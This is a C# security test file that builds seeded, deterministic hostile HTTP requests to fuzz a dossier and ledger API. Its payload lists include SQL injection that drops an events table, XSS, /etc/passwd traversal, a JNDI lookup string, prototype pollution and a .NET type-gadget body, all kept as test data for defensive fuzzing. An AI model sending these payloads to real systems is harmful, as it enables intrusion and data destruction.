using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace OneStop.Tests.Security;

/// <summary>One generated request, and how a failure message shows it.</summary>
public sealed record HostileRequest(HttpMethod Method, string Url, byte[]? Body, string? ContentType, string? Role)
{
    public HttpContent? Content()
    {
        if (Body is null)
            return null;
        var content = new ByteArrayContent(Body);
        if (ContentType is not null)
            content.Headers.ContentType = MediaTypeHeaderValue.Parse(ContentType);
        return content;
    }

    public override string ToString()
    {
        var body = Body is null ? "" : Encoding.UTF8.GetString(Body);
        var shown = new string([.. body.Take(300).Select(c => char.IsControl(c) ? '·' : c)]);
        return $"{Method} {Url[..Math.Min(Url.Length, 300)]} as {Role ?? "nobody"} ({ContentType}): {shown}";
    }
}

/// <summary>
/// Deterministic hostile requests built from the role table's sample of each endpoint, aimed at real dossiers.
/// Every POST carries at least one defect the service must refuse (a control character, a lone surrogate, an
/// over-long or mistyped field, an unknown property, deep nesting, a cut-off or non-object body, a version no
/// dossier has), so none may append an event; on top come injection strings that are legal text. GETs get
/// hostile path segments and query values; a read's `reason` is always defective, since a read is recorded.
/// Request n of a seed is always the same request.
/// </summary>
public sealed class HostileRequests(int seed, IReadOnlyList<Guid> dossiers, string procedureCode)
{
    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; drop table onestop.mt_events; --", "\" onmouseover=\"alert(1)", "<script>alert(1)</script>",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "${jndi:ldap://x.invalid/a}", "{{7*7}}",
        "\u202Egnp.exe", "NaN", "-0", "1e309", "😀😀😀", "Ca\u0302\u0301p phe\u0301p", "\u200B", "", " ",
        "%00", "%2e%2e%2f", "\\u0000", "null", "true", "[]", "{}", new string('x', 3999), "Nguyễn Văn A",
    ];

    private static readonly string[] Poisons =
    [
        "a\u0000b", "\u0001", "x\u001b[31m", "\u007f", "a" + LoneHigh + "b", LoneLow, "\u0008", new string('y', 4001),
    ];

    // JsonNode writes a lone surrogate as U+FFFD, which is legal; these markers become escapes after writing.
    private const string LoneHigh = "__LONE_HIGH__";
    private const string LoneLow = "__LONE_LOW__";

    private static readonly string[] Numbers =
    [
        "0", "-1", "1.5", "2147483648", "-2147483649", "9223372036854775808", "1e309", "1e-400",
        "99999999999999999999999999999999",
    ];

    private static readonly string[] QueryValues =
    [
        "0001-01-01", "9999-12-31", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00%2B14:00", "2026-02-30", "2026-13",
        "0000-00", "99999-99", "2147483647", "-2147483648", "99999999999999999999", "NaN", "-1", "%zz", "%",
        "%00", "%ED%A0%80", "%27%20OR%201%3D1--", "%3Cscript%3E", "..%2F..%2Fetc%2Fpasswd", "WorkingCenturies",
        "true", "", "a%2Cb", "%C3%A2%CC%81",
    ];

    private static readonly string[] PathSegments =
    [
        "not-a-guid", "..%2F..%2Fetc%2Fpasswd", "%27%20OR%201%3D1--", "00000000-0000-0000-0000-000000000000",
        "99999999999999999999", "-1", "%C0%AE%C0%AE", new string('9', 400), "01990000-0000-7000-8000-00000000dead",
    ];

    public HostileRequest Build(int n, EndpointCase call)
    {
        var random = new Random(unchecked((seed * 1_000_003) + n));
        var role = call.IsPublic
            ? random.Next(3) == 0 ? RoleTable.Reception : null
            : call.Allowed![random.Next(call.Allowed.Length)];
        var url = Retarget(call.Url, random);
        if (call.Method == HttpMethod.Get)
            return new HostileRequest(HttpMethod.Get, MutateQuery(url, random), null, null, role);

        using var sample = call.Body();
        var mediaType = sample?.Headers.ContentType?.MediaType;
        if (mediaType == "multipart/form-data")
            return Multipart(url, role, random);
        var text = sample is null ? "{}" : sample.ReadAsStringAsync().GetAwaiter().GetResult();
        text = text.Replace("NO.SUCH.CODE", procedureCode, StringComparison.Ordinal);
        var (body, contentType) = MutateJson(text, random);
        return new HostileRequest(HttpMethod.Post, url, body, contentType, role);
    }

    private string Retarget(string url, Random random)
    {
        var unknown = RoleTable.UnknownDossier.ToString();
        var roll = random.Next(10);
        var target = roll switch
        {
            < 8 => dossiers[random.Next(dossiers.Count)].ToString(),
            8 => unknown,
            _ => Pick(random, PathSegments),
        };
        url = url.Replace(unknown, target, StringComparison.Ordinal);
        if (url.Contains("NO.SUCH.CODE", StringComparison.Ordinal))
            url = url.Replace("NO.SUCH.CODE", random.Next(4) == 0 ? Pick(random, PathSegments) : procedureCode,
                StringComparison.Ordinal);
        if (url.Contains("/consultations/1/", StringComparison.Ordinal) && random.Next(2) == 0)
            url = url.Replace("/consultations/1/", $"/consultations/{Pick(random, Numbers)}/",
                StringComparison.Ordinal);
        if (url.StartsWith("/api/ledger/bundles/", StringComparison.Ordinal) && random.Next(2) == 0)
            url = "/api/ledger/bundles/" + Pick(random, [.. Numbers, .. PathSegments]);
        return url;
    }

    private static string MutateQuery(string url, Random random)
    {
        var at = url.IndexOf('?', StringComparison.Ordinal);
        var path = at < 0 ? url : url[..at];
        var pairs = at < 0
            ? []
            : url[(at + 1)..].Split('&').Select(p => p.Split('=', 2)).Select(p => (Name: p[0], Value: p[^1])).ToList();
        var mutated = new List<(string Name, string Value)>();
        foreach (var (name, value) in pairs)
        {
            if (name == "reason")
                mutated.Add((name, Uri.EscapeDataString(Pick(random, Poisons[..4])) + (random.Next(3) == 0
                    ? new string('r', 501)
                    : "")));
            else if (random.Next(4) == 0)
                continue;
            else
                mutated.Add((name, random.Next(3) == 0 ? value : Pick(random, QueryValues)));
        }

        foreach (var name in new[] { "from", "to", "month", "value", "unit", "sequence", "size", "search", "after" })
        {
            if (random.Next(6) == 0)
                mutated.Add((name, Pick(random, QueryValues)));
        }

        if (random.Next(5) == 0)
            mutated.Add(("limit", Pick(random, Numbers)));
        if (random.Next(8) == 0)
            mutated.Add((Uri.EscapeDataString(Pick(random, Injections)), Pick(random, QueryValues)));
        return mutated.Count == 0 ? path : path + "?" + string.Join('&', mutated.Select(p => $"{p.Name}={p.Value}"));
    }

    private static (byte[] Body, string? ContentType) MutateJson(string text, Random random)
    {
        var root = JsonNode.Parse(text)!.AsObject();
        for (var legal = random.Next(3); legal > 0; legal--)
            SetLeaf(root, random, (_, r) => JsonValue.Create(Pick(r, Injections)), onlyStrings: true);

        var body = random.Next(9) switch
        {
            0 => SetLeaf(root, random, (_, r) => JsonValue.Create(Pick(r, Poisons)), onlyStrings: true)
                ? root.ToJsonString()
                : WithUnknownProperty(root, random),
            1 => WithUnknownProperty(root, random),
            2 => SetLeaf(root, random, WrongType, onlyStrings: false)
                ? root.ToJsonString()
                : WithUnknownProperty(root, random),
            3 => root.ContainsKey("version")
                ? root.ToJsonString().Replace("\"version\":" + root["version"]!.ToJsonString(),
                    "\"version\":" + Pick(random, Numbers[..7]), StringComparison.Ordinal)
                : WithUnknownProperty(root, random),
            4 => Nested(root, random),
            5 => root.ToJsonString()[..random.Next(1, root.ToJsonString().Length)],
            6 => Pick(random, ["[]", "null", "\"x\"", "42", "true", "", "{", "}", "{\"version\":}", "\uFEFF"]),
            7 => root.ToJsonString() + Pick(random, ["}", "{}", ",", "]", " x"]),
            _ => random.Next(10) == 0 ? "{\"reason\":\"" + new string('z', 1_100_000) + "\"}" : null,
        };

        var contentType = random.Next(8) switch
        {
            0 => Pick(random, ["text/plain", "application/xml", "application/x-www-form-urlencoded"]),
            1 => null,
            _ => "application/json",
        };
        body = body?.Replace(LoneHigh, "\\ud800", StringComparison.Ordinal)
            .Replace(LoneLow, "\\udc00", StringComparison.Ordinal);
        // Not UTF-8 at all: a UTF-16 byte order mark before the object.
        byte[] bytes = body is null
            ? [0xFF, 0xFE, .. Encoding.UTF8.GetBytes(root.ToJsonString())]
            : Encoding.UTF8.GetBytes(body);
        return (bytes, contentType);
    }

    private static HostileRequest Multipart(string url, string? role, Random random)
    {
        var version = "1";
        var component = "C01";
        var fileName = Pick(random, ["scan.pdf", "../../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "CON",
            "%2e%2e%2fx.pdf", "<script>.pdf"]);
        var bytes = new byte[random.Next(1, 2000)];
        random.NextBytes(bytes);
        var withFile = true;
        var duplicateVersion = false;
        switch (random.Next(6))
        {
            case 0:
                version = Pick(random, ["", "abc", "99999999999999999999", "-1", "1e3", "\uFF11", " 1", "0"]);
                break;
            case 1:
                component = Pick(random, [.. Poisons, "../../etc/passwd", "'; drop table x; --", "C999"]);
                break;
            case 2:
                withFile = false;
                break;
            case 3:
                bytes = [];
                break;
            case 4:
                fileName = Pick(random, ["a\u0000.pdf", "", new string('n', 300) + ".pdf", "\u0001.pdf"]);
                break;
            default:
                duplicateVersion = true;
                break;
        }

        using var form = new MultipartFormDataContent();
        form.Add(new StringContent(version), "version");
        if (duplicateVersion)
            form.Add(new StringContent("2"), "version");
        form.Add(new StringContent(component), "componentId");
        if (withFile)
        {
            var file = new ByteArrayContent(bytes);
            file.Headers.ContentType = MediaTypeHeaderValue.Parse(
                Pick(random, ["application/pdf", "image/png", "text/html", "application/x-msdownload"]));
            // Set by hand: HttpClient refuses the empty and odd file names a hostile client sends anyway.
            var disposition = new ContentDispositionHeaderValue("form-data") { Name = "\"file\"" };
            if (fileName.Any(char.IsControl))
                disposition.FileNameStar = fileName;
            else
                disposition.FileName = $"\"{fileName}\"";
            file.Headers.ContentDisposition = disposition;
            form.Add(file);
        }

        var body = form.ReadAsByteArrayAsync().GetAwaiter().GetResult();
        return new HostileRequest(HttpMethod.Post, url, body, form.Headers.ContentType!.ToString(), role);
    }

    private static bool SetLeaf(
        JsonObject root,
        Random random,
        Func<JsonNode?, Random, JsonNode> replacement,
        bool onlyStrings)
    {
        var leaves = Leaves(root)
            .Where(l => !onlyStrings || l.Node is JsonValue v && v.TryGetValue<string>(out _))
            .ToList();
        if (leaves.Count == 0)
            return false;
        var (parent, key, index, node) = leaves[random.Next(leaves.Count)];
        if (parent is JsonObject o)
            o[key!] = replacement(node, random);
        else
            ((JsonArray)parent)[index] = replacement(node, random);
        return true;
    }

    private static IEnumerable<(JsonNode Parent, string? Key, int Index, JsonNode? Node)> Leaves(JsonNode node)
    {
        if (node is JsonObject o)
        {
            foreach (var (key, child) in o.ToList())
            {
                yield return (o, key, -1, child);
                if (child is JsonObject or JsonArray)
                    foreach (var leaf in Leaves(child))
                        yield return leaf;
            }
        }
        else if (node is JsonArray a)
        {
            for (var i = 0; i < a.Count; i++)
                yield return (a, null, i, a[i]);
        }
    }

    /// <summary>A value of another JSON type than the sample had there (null is legal for some fields).</summary>
    private static JsonNode WrongType(JsonNode? current, Random random)
    {
        var kind = current?.GetValueKind() ?? JsonValueKind.Null;
        JsonNode[] others =
        [
            .. kind is JsonValueKind.Number ? [] : new[] { JsonValue.Create(random.Next(2) == 0 ? 42 : 1e300) },
            .. kind is JsonValueKind.True or JsonValueKind.False ? [] : new[] { JsonValue.Create(true) },
            .. kind is JsonValueKind.String ? [] : new[] { JsonValue.Create("one; select pg_sleep(10)") },
            .. kind is JsonValueKind.Object
                ? []
                : new JsonNode[] { new JsonObject { ["$type"] = "System.IO.FileInfo" } },
            .. kind is JsonValueKind.Array ? [] : new JsonNode[] { new JsonArray(1, "two", null) },
        ];
        return others[random.Next(others.Length)];
    }

    private static string WithUnknownProperty(JsonObject root, Random random)
    {
        var copy = root.DeepClone().AsObject();
        copy[Pick(random, ["isAdmin", "__proto__", "$type", "Version ", "events", "unknownField"])] =
            random.Next(2) == 0 ? JsonValue.Create(true) : new JsonObject();
        return copy.ToJsonString();
    }

    private static string Nested(JsonObject root, Random random)
    {
        var depth = random.Next(20, 200);
        var open = random.Next(2) == 0 ? "[" : "{\"a\":";
        var close = open == "[" ? "]" : "}";
        var deep = string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
        var key = root.Select(p => p.Key).DefaultIfEmpty("nested").ElementAt(random.Next(Math.Max(1, root.Count)));
        var copy = root.DeepClone().AsObject();
        copy[key] = "__DEEP__";
        return copy.ToJsonString().Replace("\"__DEEP__\"", deep, StringComparison.Ordinal);
    }

    private static string Pick(Random random, string[] values) => values[random.Next(values.Length)];
}
